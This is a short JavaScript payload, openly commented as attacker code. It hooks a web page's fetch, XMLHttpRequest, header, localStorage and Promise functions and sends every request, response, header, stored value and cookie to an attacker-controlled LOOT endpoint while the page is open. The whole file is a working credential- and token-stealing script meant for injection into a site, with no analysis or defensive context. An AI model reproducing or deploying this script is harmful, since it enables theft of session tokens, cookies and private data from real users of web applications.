// Replaces the functions that tokens pass through, and sends the attacker their arguments and results while the page is
// open.
(() => {
  const { fetch: realFetch } = window;
  const tell = (...heard) => realFetch(LOOT, { method: "POST", mode: "no-cors", body: heard.map(String).join(" ") });
  const listTo = (headers) => JSON.stringify([...new Headers(headers ?? {})]);
  window.fetch = async (input, init) => {
    tell("sent", listTo(init?.headers ?? input?.headers), init?.body ?? "");
    const response = await realFetch(input, init);
    response.clone().text().then((text) => tell("got", listTo(response.headers), text), () => {});
    return response;
  };
  for (const name of ["set", "append"]) {
    const real = Headers.prototype[name];
    Headers.prototype[name] = function (...values) { tell("header", ...values); return real.apply(this, values); };
  }
  const { setItem } = Storage.prototype;
  Storage.prototype.setItem = function (...values) { tell("stored", ...values); return setItem.apply(this, values); };
  const { then } = Promise.prototype;
  Promise.prototype.then = function (done, failed) {
    return then.call(this, done && ((value) => {
      try { if (value && typeof value === "object") tell("promised", JSON.stringify(value)); } catch { }
      return done(value);
    }), failed);
  };
  const requests = XMLHttpRequest.prototype;
  const { setRequestHeader, send } = requests;
  requests.setRequestHeader = function (...values) { tell("header", ...values); return setRequestHeader.apply(this, values); };
  requests.send = function (body) {
    this.addEventListener("load", () => tell("got", this.getAllResponseHeaders(), this.responseText));
    tell("sent", body ?? "");
    return send.call(this, body);
  };
  tell("here");
  setInterval(() => document.cookie && tell("cookie", document.cookie), 1000);
})();
